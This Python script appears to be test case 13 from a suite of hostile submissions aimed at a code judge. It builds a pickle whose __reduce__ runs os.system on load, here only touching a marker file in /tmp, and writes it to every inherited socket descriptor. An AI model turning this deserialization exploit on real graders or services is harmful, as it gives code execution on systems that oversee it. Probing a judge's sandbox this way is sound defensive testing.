"""13: send the judge a pickle that runs a command when it is loaded.
"""

import os
import pickle
import socket
import stat
import struct


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-13",)


body = pickle.dumps(Payload())
for descriptor in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            os.write(descriptor, struct.pack(">I", len(body)) + body)
    except OSError:
        pass
